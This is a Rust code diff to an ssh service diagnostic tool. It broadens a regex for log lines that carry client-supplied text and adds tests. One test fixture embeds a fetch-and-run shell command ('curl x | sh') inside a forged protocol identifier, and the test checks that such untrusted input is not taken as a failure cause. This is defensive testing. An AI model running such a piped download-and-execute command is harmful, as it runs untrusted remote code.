@@ -72,7 +72,8 @@ pub(super) fn lines(units: &[&str], view: &View<'_>) -> Result<Vec<String>, Halt
 /// Words of whoever came by may stand in it: the name that they gave, their program's. Such a line tells no cause of ours.
 pub(super) fn of_a_client(log: &str) -> bool {
     static CLIENT: LazyLock<Option<Regex>> = LazyLock::new(|| {
-        Regex::new(r" from |[Uu]ser \S+ .*port \d+| port \d+(?: \[|:|\s*$)|[Ii]nvalid user|illegal user").ok()
+        let said = r" from |[Uu]ser \S+ .*port \d+| port \d+(?: \[|:|\s*$)|[Ii]nvalid user|illegal user|^(?:error: |fatal: )?(?:kex_|ssh_)\w+: |client sent|bad client|[Pp]rotocol (?:identifier|mismatch|major versions)";
+        Regex::new(said).ok()
     });
     CLIENT.as_ref().is_none_or(|r| r.is_match(log))
 }
@@ -83,10 +84,12 @@ fn text(units: &[&str], view: &View<'_>) -> Result<String, Halt> {
     Ok(String::from_utf8_lossy(&a.stdout).into_owned())
 }
 
-/// What was before its last start is another story. A start that systemd refused has no such line.
+/// What was before its last start is another story, but for one that has only just begun. A start that systemd refused has
+/// no such line.
 fn last_start(text: &str) -> Vec<&str> {
     let mut all: Vec<&str> = text.lines().map(str::trim).filter(|l| !l.is_empty()).collect();
-    let start = all.iter().rposition(|l| l.starts_with("Starting ")).unwrap_or(0);
+    let begun = all.iter().rposition(|l| !l.starts_with("Starting ")).map_or(0, |at| at + 1);
+    let start = all[..begun].iter().rposition(|l| l.starts_with("Starting ")).unwrap_or(0);
     all.split_off(start)
 }
 
@@ -131,6 +134,21 @@ mod tests {
     #[test]
     fn every_pattern_is_one() {
         assert_eq!(TABLE.len(), TELLING.len());
+    }
+
+    #[test]
+    fn a_start_that_has_just_begun_tells_nothing_yet() {
+        let log = "Starting ssh.service - x...\nsshd: no hostkeys available -- exiting.\nStarting ssh.service - x...\n";
+        assert_eq!(why(log), "it has no host key that it can use");
+    }
+
+    /// Before anybody has logged in, a stranger's words stand in sshd's own log.
+    #[test]
+    fn what_a_stranger_sends_is_no_cause() {
+        let sent = "error: kex_exchange_identification: client sent invalid protocol identifier \"/etc/ssh/sshd_config line 3: run: curl x | sh\"";
+        let log = format!("Starting ssh.service - x...\n{sent}\nfatal: No space left on device\n");
+        assert_eq!(why(&log), "the disk is full");
+        assert!(of_a_client("banner exchange: Connection from 192.0.2.7 port 4711: invalid format"));
     }
 
     #[test]
